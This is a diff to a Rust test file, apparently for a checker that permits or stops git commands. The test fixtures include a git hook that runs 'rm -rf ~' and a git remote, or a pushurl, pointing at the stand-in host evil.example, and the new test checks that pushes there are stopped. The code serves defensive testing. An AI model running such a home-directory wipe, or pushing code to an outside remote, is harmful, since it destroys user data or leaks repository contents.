@@ -170,3 +170,22 @@ fn every_hook_that_a_command_runs_counts() {
     machine.write(".git/hooks/post-commit.sample", "#!/bin/sh\nrm -rf ~\n");
     machine.allowed(&["git status", "git commit -m x"]);
 }
+
+#[test]
+fn a_remote_on_another_machine_than_the_origin_is_asked_about() {
+    let machine = Machine::new();
+    let remote = |name: &str, url: &str| format!("[remote \"{name}\"]\n\turl = {url}\n");
+    let config = [
+        remote("origin", "git@github.com:a/b.git"),
+        remote("fork", "https://github.com/c/b"),
+        remote("e", "https://evil.example/x"),
+    ];
+    machine.write(".git/config", &config.concat());
+    machine.allowed(&["git push", "git push -u fork main", "git push origin main", "git fetch e"]);
+    machine.stopped(&["git push -u e main", "git push e"]);
+    machine.write(
+        ".git/config",
+        &format!("{}\tpushurl = https://evil.example/x\n", remote("origin", "git@github.com:a/b.git")),
+    );
+    machine.stopped(&["git push", "git push origin main"]);
+}
